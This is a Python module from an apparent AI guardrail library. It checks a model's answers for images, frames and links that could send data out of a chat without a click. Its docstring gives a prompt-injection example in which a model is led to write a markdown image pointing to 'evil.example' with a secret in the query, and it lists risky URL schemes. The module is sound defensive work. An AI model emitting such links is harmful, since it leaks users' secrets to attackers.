"""Links and images that could carry data out of the conversation.

An injected prompt can make a model write ``![](https://evil.example/?q=SECRET)``:
the chat front end loads the image by itself and the data leaves without a
click. The judgment is the shield's (``unwalled.shield.links.find_exfiltration``),
so the input shield and this check agree. It refuses:

- any image, frame or other URL that loads without a click (markdown inline or
  reference-style, HTML ``img``/``srcset``/``iframe``..., CSS) off the allow-list;
- any ``data:``, ``javascript:``, ``file:`` or ``blob:`` URL;
- links off the allow-list that carry data: credentials, a secret or personal
  data, a long or sentence-like query value, an encoded blob in the query, path
  or host (with ``links: all``, every link off the list; ``none``, no link).
"""

from __future__ import annotations

from typing import Literal

from unwalled.contracts.checks.base import Answer, Check
from unwalled.contracts.checks.urls import AllowListOptions
from unwalled.contracts.verdict import Violation
from unwalled.shield.links import find_exfiltration, host_of, scheme_of


class ExfiltrationOptions(AllowListOptions):
    kind: Literal["exfiltration"] = "exfiltration"
    links: Literal["with_data", "all", "none"] = "with_data"
    """Which links off the allow-list to refuse: those carrying data, all, none."""


class ExfiltrationCheck(Check):
    """Images and links that could carry data out (``allow``: domains they may
    point to)."""

    kind = "exfiltration"
    reads_calls = True
    options: ExfiltrationOptions

    def __init__(self, options: ExfiltrationOptions) -> None:
        super().__init__(options)
        self.allowed = tuple(options.allow)

    def run(self, answer: Answer) -> list[Violation]:
        found: list[Violation] = []
        for path, text in self.texts(answer):
            for finding in find_exfiltration(text, self.allowed, self.options.links):
                found.append(self.violation(path, (
                    f"a {finding.form} to {where(finding.url)} could carry data "
                    f"out ({finding.reason}); remove it, or allow its domain")))
        return found


def where(url: str) -> str:
    """The URL's host (or scheme), never its path or query: those may hold the
    very data that is leaving, and the message goes to the ledger."""
    return host_of(url) or f"a {scheme_of(url) or 'relative'}: URL"


def build(options: ExfiltrationOptions) -> ExfiltrationCheck:
    return ExfiltrationCheck(options)
